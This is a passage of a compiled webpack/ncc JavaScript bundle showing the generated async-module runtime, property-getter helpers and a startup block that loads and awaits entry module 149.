/******/ 	var resolveQueue = (queue) => {
/******/ 		if(queue && queue.d < 1) {
/******/ 			queue.d = 1;
/******/ 			queue.forEach((fn) => (fn.r--));
/******/ 			queue.forEach((fn) => (fn.r-- ? fn.r++ : fn()));
/******/ 		}
/******/ 	}
/******/ 	var wrapDeps = (deps) => (deps.map((dep) => {
/******/ 		if(dep !== null && typeof dep === "object") {
/******/ 			if(dep[webpackQueues]) return dep;
/******/ 			if(dep.then) {
/******/ 				var queue = [];
/******/ 				queue.d = 0;
/******/ 				dep.then((r) => {
/******/ 					obj[webpackExports] = r;
/******/ 					resolveQueue(queue);
/******/ 				}, (e) => {
/******/ 					obj[webpackError] = e;
/******/ 					resolveQueue(queue);
/******/ 				});
/******/ 				var obj = {};
/******/ 				obj[webpackQueues] = (fn) => (fn(queue));
/******/ 				return obj;
/******/ 			}
/******/ 		}
/******/ 		var ret = {};
/******/ 		ret[webpackQueues] = x => {};
/******/ 		ret[webpackExports] = dep;
/******/ 		return ret;
/******/ 	}));
/******/ 	__nccwpck_require__.a = (module, body, hasAwait) => {
/******/ 		var queue;
/******/ 		hasAwait && ((queue = []).d = -1);
/******/ 		var depQueues = new Set();
/******/ 		var exports = module.exports;
/******/ 		var currentDeps;
/******/ 		var outerResolve;
/******/ 		var reject;
/******/ 		var promise = new Promise((resolve, rej) => {
/******/ 			reject = rej;
/******/ 			outerResolve = resolve;
/******/ 		});
/******/ 		promise[webpackExports] = exports;
/******/ 		promise[webpackQueues] = (fn) => (queue && fn(queue), depQueues.forEach(fn), promise["catch"](x => {}));
/******/ 		module.exports = promise;
/******/ 		body((deps) => {
/******/ 			currentDeps = wrapDeps(deps);
/******/ 			var fn;
/******/ 			var getResult = () => (currentDeps.map((d) => {
/******/ 				if(d[webpackError]) throw d[webpackError];
/******/ 				return d[webpackExports];
/******/ 			}))
/******/ 			var promise = new Promise((resolve) => {
/******/ 				fn = () => (resolve(getResult));
/******/ 				fn.r = 0;
/******/ 				var fnQueue = (q) => (q !== queue && !depQueues.has(q) && (depQueues.add(q), q && !q.d && (fn.r++, q.push(fn))));
/******/ 				currentDeps.map((dep) => (dep[webpackQueues](fnQueue)));
/******/ 			});
/******/ 			return fn.r ? promise : getResult();
/******/ 		}, (err) => ((err ? reject(promise[webpackError] = err) : outerResolve(exports)), resolveQueue(queue)));
/******/ 		queue && queue.d < 0 && (queue.d = 0);
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/define property getters */
/******/ (() => {
/******/ 	// define getter functions for harmony exports
/******/ 	__nccwpck_require__.d = (exports, definition) => {
/******/ 		for(var key in definition) {
/******/ 			if(__nccwpck_require__.o(definition, key) && !__nccwpck_require__.o(exports, key)) {
/******/ 				Object.defineProperty(exports, key, { enumerable: true, get: definition[key] });
/******/ 			}
/******/ 		}
/******/ 	};
/******/ })();
/******/ 
/******/ /* webpack/runtime/hasOwnProperty shorthand */
/******/ (() => {
/******/ 	__nccwpck_require__.o = (obj, prop) => (Object.prototype.hasOwnProperty.call(obj, prop))
/******/ })();
/******/ 
/************************************************************************/
/******/ 
/******/ // startup
/******/ // Load entry module and return exports
/******/ // This entry module used 'module' so it can't be inlined
/******/ var __webpack_exports__ = __nccwpck_require__(149);
/******/ __webpack_exports__ = await __webpack_exports__;
/******/ 
